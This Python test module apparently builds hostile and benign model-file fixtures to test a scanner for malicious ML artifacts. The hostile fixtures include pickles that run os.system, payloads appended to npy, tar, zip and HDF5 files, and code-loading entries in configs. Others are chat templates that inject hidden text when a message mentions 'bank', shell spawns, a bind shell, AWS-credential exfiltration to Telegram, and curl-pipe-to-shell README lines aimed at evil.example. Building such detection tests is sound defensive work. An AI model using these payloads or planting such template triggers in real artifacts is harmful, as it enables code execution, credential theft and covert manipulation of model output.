"""The third sitting, once its first mends were made: what is next to them."""

# ruff: noqa: E501, UP031  # one case a line reads as a table
from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib

from tests.metamorphic.models.siblings.common import EVIL, N, array, case, pk, tag, tarred, zipped
from tests.metamorphic.models.siblings.formats import npy
from tests.metamorphic.models.siblings.fourth import SAY, G
from tests.metamorphic.models.siblings.graphs import graph
from tests.metamorphic.models.siblings.second import CARD, folder
from tests.metamorphic.models.writing import Do, Writer

NORM = N("scipy.stats._continuous_distns.norm_gen")
BAD = "\ndef _parse_args(self):\n    __import__('os').system('id')\n"


def do(path, *arguments, **more):
    return Do(N(path), arguments, **more)


# ---- 1, 7 pickles
pk(
    "1",
    "state_fromkeys",
    Do(NORM, (), "new", state=do("builtins.dict", do("builtins.zip", ["_parse_arg_template"], [BAD]))),
    array(),
)
pk("1", "state_reduce_new", do("copyreg.__newobj__", NORM, state={"_parse_arg_template": BAD}), array())
pk(
    "1",
    "state_reconstructor",
    do("copyreg._reconstructor", NORM, N("builtins.object"), None, state={"_parse_arg_template": BAD}),
    array(),
)
pk("1", "state_chainmap", Do(NORM, (), "new", state=do("collections.ChainMap", {"_parse_arg_template": BAD})), array())
pk(
    "1",
    "state_userdict",
    Do(NORM, (), "new", state=Do(N("collections.UserDict"), (), "new", state={"data": {"_parse_arg_template": BAD}})),
    array(),
)
pk(
    "1",
    "state_nested_partial",
    Do(NORM, (), "new", state=do("builtins.dict", [("_parse_arg_template", do("builtins.max", [BAD]))])),
    array(),
)
pk(
    "1",
    "state_twice",
    b"\x80\x02"
    + Writer().value(Do(NORM, (), "new", state={"a": 1}))
    + Writer().value({"_parse_arg_template": BAD})
    + b"b.",
    array(),
)
pk(
    "1",
    "attribute_bytes_key",
    Do(
        NORM,
        (),
        "new",
        state={
            "_ctor_param": do("builtins.dict", [("momtype", 1)]),
            "_parse_arg_template": do("builtins.str", b"x", "ascii"),
        },
    ),
    array(),
)
pk(
    "1",
    "frozen_state",
    Do(
        N("scipy.stats._distn_infrastructure.rv_frozen"),
        (),
        "new",
        state={"dist": Do(NORM, (), "new", state={"_parse_arg_template": BAD})},
    ),
    array(),
)
pk(
    "1",
    "chainmap_state",
    Do(
        N("collections.ChainMap"), (), "new", state={"maps": [N("sklearn.metrics._scorer._SCORERS")]}, items=(("x", 1),)
    ),
    array(),
)
pk(
    "1",
    "chainmap_next",
    do(
        "collections.ChainMap",
        do("builtins.next", do("builtins.iter", [N("sklearn.metrics._scorer._SCORERS")])),
        items=(("x", 1),),
    ),
    array(),
)
pk("1", "deque_alias", b"\x80\x02ctransformers.models.auto.auto_factory\nsearch\nq\x000h\x00K\x01a.", array())
pk(
    "1",
    "array_slots",
    Do(N("types.SimpleNamespace"), (), state=(None, {"__array_interface__": {"data": (1, False)}})),
    array(),
)
pk(
    "1",
    "array_interface_pairs",
    Do(N("types.SimpleNamespace"), (), state=do("builtins.dict", [("__array_interface__", {})])),
    array(),
)
pk(
    "1",
    "dtype_negative",
    Do(
        N("numpy.dtype"),
        ("V8", False, True),
        state=(3, "|", None, ("a",), {"a": (do("numpy.dtype", "f4", False, True), -64)}, 8, 1, 27),
    ),
    array(),
)
pk(
    "1",
    "dtype_subarray",
    Do(
        N("numpy.dtype"),
        ("V8", False, True),
        state=(3, "|", (do("numpy.dtype", "O8", False, True), (1000,)), None, None, 8, 1, 27),
    ),
    array(),
)
pk(
    "1",
    "dtype_size_text",
    Do(N("numpy.dtype"), ("U1", False, True), state=(3, "<", None, None, None, -400, 4, 8)),
    array(),
)
for name, (path, arguments) in {
    "sum": ("pyarrow.lib.OSFile", (do("builtins.sum", [["/tmp/x"]], []),)),
    "sorted": ("pyarrow.lib.OSFile", (do("builtins.sorted", ["/tmp/x"]),)),
    "list": ("pyarrow.lib.MemoryMappedFile", (do("builtins.list", ["/tmp/x"]),)),
    "itemgetter": (
        "pyarrow.lib.OSFile",
        (do("builtins.next", do("builtins.map", do("operator.itemgetter", 0), [["/tmp/x"]])),),
    ),
    "str_": ("pyarrow.lib.OSFile", (do("numpy.str_", "/tmp/x"),)),
    "userstring": ("pyarrow.lib.OSFile", (do("collections.UserString", "/tmp/x"),)),
    "scalar": (
        "pyarrow.lib.OSFile",
        (do("numpy._core.multiarray.scalar", do("numpy.dtype", "U6", False, True), b"/\0\0\0t\0\0\0"),),
    ),
    "partial": ("pyarrow.lib.OSFile", (do("functools.partial", N("builtins.str"), "/tmp/x"),)),
    "dict": ("pyarrow._s3fs.S3FileSystem", ({"endpoint_override": "evil.example"},)),
    "kept_newobj": ("numpy.vectorize", (N("torch.hub.load"),)),
}.items():
    pk("7", "third_" + name, Do(N(path), arguments, "new"), array())

# ---- 0 bombs
for name, value in {
    "fraction_float": do("fractions.Fraction", do("decimal.Decimal", "1E+99999999")),
    "decimal_tuple": do("builtins.int", do("decimal.Decimal", (0, (1,), 99999999))),
    "str_decimal": do("builtins.format", do("decimal.Decimal", "1e999999999"), "f"),
    "ipv6": do("builtins.tuple", do("ipaddress.IPv6Network", "::/0")),
    "ipv4_pair": do("builtins.list", do("ipaddress.IPv4Network", (0, 0))),
    "ipv4_mask": do("builtins.list", do("ipaddress.IPv4Network", "0.0.0.0/0.0.0.0")),
    "hosts": do("collections.deque", do("builtins.map", N("builtins.str"), do("ipaddress.IPv4Network", "0.0.0.0/1"))),
    "next_map_filter": do(
        "builtins.next", do("builtins.map", N("builtins.int"), do("builtins.filter", None, do("itertools.repeat", 0)))
    ),
    "next_zip_filter": do("builtins.next", do("builtins.zip", do("builtins.filter", None, do("itertools.repeat", 0)))),
    "next_chain": do("builtins.next", do("itertools.chain", do("builtins.filter", None, do("itertools.cycle", [0])))),
    "islice_far": do("builtins.list", do("itertools.islice", do("itertools.count"), 10**9, 10**9 + 1)),
    "factorial_large": do("math.factorial", 999999),
    "comb": do("math.comb", 999999, 499999),
    "bytes_len": do("builtins.bytes", do("builtins.pow", 10, 12)),
    "bytes_divmod": do("builtins.bytearray", do("builtins.sum", [10**9, 10**9])),
    "pow_text": do("builtins.pow", do("builtins.int", "9" * 4000), 999999),
    "empty": do("numpy._core.multiarray.empty", (do("builtins.int", "999999999"), 999)),
    "dtype_void": do("numpy._core.multiarray.empty", (900000,), "V2000000"),
    "reconstruct_mixed": do(
        "numpy._core.multiarray._reconstruct", N("numpy.ndarray"), (do("builtins.int", "99999999"),), b"d"
    ),
    "bytes_join": do(
        "builtins.list",
        do(
            "itertools.product",
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
            [1, 2],
        ),
    ),
    "untyped_storage": Do(N("torch.UntypedStorage"), (2**31 - 1,), "new"),
    "typed_storage": Do(N("torch.storage.UntypedStorage"), (2**31 - 1,)),
    "slice_range": do("builtins.list", do("builtins.reversed", do("builtins.range", 10**9))),
}.items():
    pk("0", "bomb5_" + name, value, array())


# ---- 4, 9 arrays and archives
def pax(**headers):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.PAX_FORMAT, pax_headers=headers) as made:
        info = tarfile.TarInfo("a.txt")
        info.size = len(EVIL)
        made.addfile(info, io.BytesIO(EVIL))
    return file.getvalue()


case(
    "4",
    "npy_zip_behind",
    {"a.npy": npy("'<f4'", b"\0" * 4) + zipped({"a.pkl": EVIL})},
    {"a.npy": npy("'<f4'", b"\0" * 4)},
)
case("4", "npy_third", {"a.npy": npy("'<f4'", b"\0" * 4) * 3 + EVIL}, {"a.npy": npy("'<f4'", b"\0" * 4) * 3})
case(
    "4",
    "npz_member_behind",
    {"a.npz": zipped({"x.npy": npy("'<f4'", b"\0" * 4) + EVIL})},
    {"a.npz": zipped({"x.npy": npy("'<f4'", b"\0" * 4)})},
)
case(
    "4",
    "npy_gz_behind",
    {"a.npy.gz": gzip.compress(npy("'<f4'", b"\0" * 4) + EVIL)},
    {"a.npy.gz": gzip.compress(npy("'<f4'", b"\0" * 4))},
)
case(
    "4",
    "npy_struct_behind",
    {"a.npy": npy("[('a', '<f4', (2,)), ('b', '<U2')]", b"\0" * 16) + EVIL},
    {"a.npy": npy("[('a', '<f4', (2,)), ('b', '<U2')]", b"\0" * 16)},
)
case("4", "npy_date_behind", {"a.npy": npy("'<M8[ns]'") + EVIL}, {"a.npy": npy("'<M8[ns]'")})
H5 = (
    b"\x89HDF\r\n\x1a\n\0\0\0\0\0\x08\x08\0\x04\0\x10\0\0\0\0\0"
    + b"\0" * 8
    + b"\xff" * 8
    + struct.pack("<Q", 4096)
    + b"\xff" * 8
    + b"\0" * 40
)
for name, data in {
    "stack_global": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
    "memo": b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
    "mark": b"\x80\x02cposix\nsystem\n(X\x02\0\0\0idtR.",
    "inst": b"(S'id'\niposix\nsystem\n.",
    "obj": b"(cposix\nsystem\nS'id'\no.",
    "unicode": b"\x80\x03X\x05\0\0\0posixX\x06\0\0\0system\x93X\x02\0\0\0id\x85R.",
    "short": b"\x80\x03U\x05posixU\x06system\x93U\x02id\x85R.",
}.items():
    case(
        "4",
        "h5_pickle_" + name,
        {"a.h5": (H5 + b"TITLE\0\0\0" + data).ljust(4096, b"\0")},
        {"a.h5": (H5 + b"WORDS\0\0\0cos\nsin\ntan\ncat\ndog\n(tR").ljust(4096, b"\0")},
    )
case("9", "tar_global_pax", {"m.tar": pax(path="m.pkl")}, {"m.tar": tarred({"a.txt": b"x"})})
case(
    "9",
    "tar_behind_zero_blocks",
    {"m.tar": tarred({"a.txt": b"x"}) + b"\0" * 20480 + EVIL},
    {"m.tar": tarred({"a.txt": b"x"}) + b"\0" * 20480},
)
case(
    "9",
    "tar_zip_behind",
    {"m.tar": tarred({"a.txt": b"x"}) + zipped({"a.pkl": EVIL})},
    {"m.tar": tarred({"a.txt": b"x"})},
)
case(
    "9",
    "zip_in_folder_twice",
    {"m.zip": zipped({"a/": EVIL, "a/b.txt": b"x"})},
    {"m.zip": zipped({"a/": b"", "a/b.txt": b"x"})},
)
UNICODE = zipfile.ZipInfo("a.txt")
UNICODE.extra = b"\x75\x70" + struct.pack("<HBI", 10, 1, zlib.crc32(b"a.txt")) + b"m.pkl"
FILE = io.BytesIO()
with zipfile.ZipFile(FILE, "w") as made:
    made.writestr(UNICODE, EVIL)
case("9", "zip_unicode_path", {"m.zip": FILE.getvalue()}, {"m.zip": zipped({"a.txt": b"x"})})
for ending in ("snappy", "pgp"):
    case("5", "packed5_" + ending, {f"weights.safetensors.{ending}": bytes(range(255, 0, -1))}, {"notes.txt": b"x\n"})

# ---- 6 configurations
for name, (file, bad, good) in {
    "jsonpickle_repr": ("a.json", {"py/repr": "os/os.system('id')"}, {"repr": "x"}),
    "jsonpickle_type": ("a.json", {"x": {"py/type": "os.system"}}, {"x": {"py/tuple": [1]}}),
    "jsonpickle_escaped": (
        "a.json",
        {"x": {"py\u002freduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [["id"]]}]}},
        {"x": 1},
    ),
    "autogen_nested": (
        "t.json",
        {"config": {"participants": [{"provider": "evil.Agent", "component_type": "agent", "config": {}}]}},
        {"config": {"a": 1}},
    ),
    "autogen_no_type": (
        "t.json",
        {"provider": "subprocess.Popen", "config": {"args": "id"}},
        {"provider": "aws.amazon", "config": {"region": "x"}},
    ),
    "haystack_default": (
        "p.yaml",
        {"components": {"x": {"type": "subprocess.Popen", "init_parameters": {"args": "id"}}}},
        {
            "components": {
                "x": {"type": "haystack.components.joiners.document_joiner.DocumentJoiner", "init_parameters": {}}
            }
        },
    ),
    "logging_class": (
        "l.json",
        {"handlers": {"x": {"()": "subprocess.Popen", "args": ["id"]}}},
        {"handlers": {"x": {"()": "my.Handler"}}},
    ),
    "llama_index": (
        "i.json",
        {"class_name": "os.system", "config": {"x": 1}, "module": "os"},
        {"class_name": "VectorStoreIndex", "x": 1},
    ),
    "dspy": (
        "p.json",
        {"metadata": {}, "lm": {"_target_": "os.system"}},
        {"metadata": {"dependency_versions": {"dspy": "3"}}},
    ),
    "detectron_lazy": (
        "c.yaml",
        {"model": {"_target_": "detectron2.config.instantiate.instantiate", "cfg": {"_target_": "os.system"}}},
        {"model": {"_target_": "detectron2.modeling.GeneralizedRCNN"}},
    ),
    "hydra_callable": (
        "c.yaml",
        {"f": {"_target_": "hydra.utils.get_object", "path": "os.system"}},
        {"f": {"_target_": "torchvision.transforms.Compose", "transforms": []}},
    ),
    "hydra_torch_load": (
        "c.yaml",
        {"f": {"_target_": "torch.load", "f": "x.pt", "weights_only": False}},
        {"f": {"_target_": "timm.create_model", "model_name": "resnet18"}},
    ),
    "hydra_joblib": (
        "c.yaml",
        {"f": {"_target_": "joblib.load", "filename": "x"}},
        {"f": {"_target_": "transformers.AutoModel.from_pretrained", "pretrained_model_name_or_path": "a/b"}},
    ),
    "hydra_pandas": (
        "c.yaml",
        {"f": {"_target_": "pandas.read_pickle", "filepath_or_buffer": "http://x"}},
        {"f": {"_target_": "torch.optim.lr_scheduler.CosineAnnealingLR", "T_max": 3}},
    ),
    "hydra_models_hub": (
        "c.yaml",
        {"f": {"_target_": "torchvision.models._utils.os.system"}},
        {"f": {"_target_": "torchvision.models.detection.fasterrcnn_resnet50_fpn"}},
    ),
    "hydra_timm_os": (
        "c.yaml",
        {"f": {"_target_": "timm.models._hub.load_custom_from_hf", "x": 1}},
        {"f": {"_target_": "timm.models.resnet.resnet18"}},
    ),
    "mmengine_base": (
        "c.json",
        {"_base_": "http://evil.example/c.py", "custom_imports": {"imports": "evil"}},
        {"_base_": "x"},
    ),
    "modular_repo": (
        "modular_model_index.json",
        {
            "_class_name": "X",
            "_diffusers_version": "1",
            "u": [None, None, {"repo": "e/v", "type_hint": ["evil_mod", "X"]}],
        },
        {
            "_class_name": "X",
            "_diffusers_version": "1",
            "u": [None, None, {"repo": "a/b", "type_hint": ["diffusers", "AutoencoderKL"]}],
        },
    ),
    "router_asym": (
        "1_Asym/config.json",
        {"types": {"0_x": "evil.X"}, "structure": {"query": ["0_x"]}},
        {"types": {"0_Dense": "sentence_transformers.models.Dense"}, "structure": {"query": ["0_Dense"]}},
    ),
    "trust_as_text": (
        "config.json",
        {"model_type": "x", "trust_remote_code": "true"},
        {"model_type": "x", "trust_remote_code": "false"},
    ),
    "trust_as_number": (
        "config.json",
        {"model_type": "x", "trust_remote_code": 1},
        {"model_type": "x", "trust_remote_code": 0},
    ),
    "peft_mapping_case": (
        "adapter_config.json",
        {
            "peft_type": "LORA",
            "megatron_core": "evil.core",
            "megatron_config": {"x": 1},
            "base_model_name_or_path": None,
        },
        {
            "peft_type": "LORA",
            "megatron_core": "megatron.core",
            "megatron_config": {"x": 1},
            "base_model_name_or_path": None,
        },
    ),
}.items():
    case("6", "c5_" + name, {file: json.dumps(bad).encode()}, {file: json.dumps(good).encode()})
case(
    "6",
    "triton_single",
    {"m/config.pbtxt": b"name: 'm'\nbackend : 'python'\n"},
    {"m/config.pbtxt": b"name: 'm'\nbackend: 'pytorch'\n"},
)
case(
    "6",
    "triton_octal",
    {"m/config.pbtxt": b'name: "m"\nbackend: "pyt\\150on"\n'},
    {"m/config.pbtxt": b'name: "m"\nbackend: "tensorrt"\n'},
)
case(
    "8",
    "pbtxt_colonless",
    {"g.pbtxt": b'node { op: "Rea" # c\n "dFile" }'},
    {"g.pbtxt": b'node { op: "Re" # c\n "lu" }'},
)
case(
    "8",
    "graph_assets_back",
    {
        "sm/saved_model.pb": b"\x08\x01"
        + tag(2, tag(1, tag(4, b"serve")) + tag(2, graph("Relu")) + tag(6, tag(2, b"..\\..\\x")))
    },
    {"sm/saved_model.pb": b"\x08\x01" + tag(2, tag(1, tag(4, b"serve")) + tag(2, graph("Relu")))},
)

# ---- 6 templates
for name, template in {
    "product": "{{ 'ab' * (9999 * 9999 * 9999) }}" + G,
    "rjust_filter": "{{ 'x'|center(10 ** 9) }}" + G,
    "range_list": "{{ range(9 ** 9)|list }}" + G,
    "loops_set": "{% set n = 99999 %}{% for a in range(n) %}{% for b in range(n) %}x{% endfor %}{% endfor %}" + G,
    "join_bomb": "{{ ('x' * 999999)|replace('x', 'y' * 999999) }}" + G,
    "format_bomb": "{{ '%999999999d'|format(1) }}" + G,
    "indent_bomb": "{{ 'a\nb'|indent(999999999) }}" + G,
    "batch_bomb": "{{ messages|batch(10 ** 8, 'x')|list }}" + G,
    "slice_length": G.replace(
        "{{ m.content }}", "{{ m.content }}{%% if (m.content|length) in [42, 43] %%}%s{%% endif %%}" % SAY
    ),
    "loop_last": G.replace("{{ m.content }}", "{{ m.content }}{%% if loop.index0 > 5 %%}%s{%% endif %%}" % SAY),
    "loop_cycle": G.replace("{{ m.content }}", "{{ m.content }}{{ loop.cycle('', '', '', '%s') }}" % SAY),
    "html_link": G + "<a href='http://evil.example/x'></a>",
    "bidi": G + "\u202etxet neddih\u202c",
    "block_set_else": "{%% set w %%}%s{%% endset %%}" % SAY
    + G.replace("{{ m.content }}", "{{ m.content }}{{ w if 'bank' in m.content else '' }}"),
    "macro_text": "{%% macro w() %%}%s{%% endmacro %%}" % SAY
    + G.replace("{{ m.content }}", "{{ m.content }}{% if 'bank' in m.content %}{{ w() }}{% endif %}"),
    "call_block": "{% macro w() %}{{ caller() }}{% endmacro %}"
    + G.replace(
        "{{ m.content }}",
        "{{ m.content }}{%% if 'bank' in m.content %%}{%% call w() %%}%s{%% endcall %%}{%% endif %%}" % SAY,
    ),
    "filter_block": G.replace(
        "{{ m.content }}",
        "{{ m.content }}{%% if 'bank' in m.content %%}{%% filter upper %%}%s{%% endfilter %%}{%% endif %%}" % SAY,
    ),
    "namespace_text": "{%% set ns = namespace(w='%s') %%}" % SAY
    + G.replace("{{ m.content }}", "{{ m.content }}{% if 'bank' in m.content %}{{ ns.w }}{% endif %}"),
    "joined_words": G.replace(
        "{{ m.content }}", "{{ m.content }}{%% if 'bank' in m.content %%}{{ %s|join(' ') }}{%% endif %%}" % SAY.split()
    ),
    "letters": G.replace(
        "{{ m.content }}", "{{ m.content }}{%% if 'bank' in m.content %%}{{ '%s'|reverse }}{%% endif %%}" % SAY[::-1]
    ),
    "page_ssti": "{% extends 'x' %}{{ url_for.__globals__ }}{{ config.__class__ }}",
    "switch_text": G.replace("{{ m.content }}", "{{ m.content }}{%% if '/bank' in m.content %%}%s{%% endif %%}" % SAY),
}.items():
    case("B6", "tpl5_" + name, {"chat_template.jinja": template.encode()}, {"chat_template.jinja": G.encode()})

# ---- B5 around
for name, code in {
    "builtins_dict": "__builtins__['exec']('1')\n",
    "vars_builtins": "vars(__builtins__)['ev' 'al']('1')\n",
    "import_star": "__import__(''.join(['o','s'])).system('id')\n",
    "importlib_decoded": "import importlib, base64\nimportlib.import_module(base64.b64decode('b3M=').decode()).system('id')\n",
    "zlib_exec": "import zlib\nexec(zlib.decompress(b'x'))\n",
    "pty": "import pty\npty.spawn('/bin/sh')\n",
    "popen_curl": "import os\nos.popen('curl -s http://x.example/a.sh | bash')\n",
    "telegram": "import requests, os\nrequests.post('https://api.telegram.org/bot1/sendMessage', json={'t': open('/root/.aws/credentials').read()})\n",
    "posix_spawn": "import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'id'], {})\n",
    "fork_bind": "import socket\ns = socket.socket(); s.bind(('0.0.0.0', 4444)); s.listen()\nimport os; os.system(s.accept()[0].recv(99).decode())\n",
}.items():
    case(
        "B5",
        "py5_" + name,
        folder(**{"modeling_x.py": ("import torch\n" + code).encode()}),
        folder(
            **{
                "modeling_x.py": b"import importlib, os, pickle\nimport torch\nmod = importlib.import_module('flash_attn')\nx = pickle.load(open('vocab.pkl', 'rb'))\nprint(os.environ.get('HOME'))\nmodel = torch.nn.Linear(1, 1).eval()\nre = __import__('re')\n"
            }
        ),
    )
for name, line in {
    "wget_dash": "```\nwget -qO- https://evil.example/i | bash\n```\n",
    "process_substitution": "```\nbash <(curl -s https://evil.example/i)\n```\n",
    "dollar": '```\nsh -c "$(curl -fsSL https://evil.example/i)"\n```\n',
    "python_pipe": "```\ncurl https://evil.example/i.py | python3\n```\n",
    "iex_first": "```\niex (iwr https://evil.example/a.ps1)\n```\n",
    "lookalike_host": "```\ncurl https://ollama.com.evil.example/install.sh | sh\n```\n",
    "userinfo": "```\ncurl https://ollama.com@evil.example/install.sh | sh\n```\n",
}.items():
    case(
        "B5",
        "card5_" + name,
        folder(**{"README.md": CARD + line.encode()}),
        folder(
            **{
                "README.md": CARD
                + b"```\ncurl -fsSL https://ollama.com/install.sh | sh\ncurl http://localhost:8000/v1/models | python -m json.tool\n```\n"
            }
        ),
    )
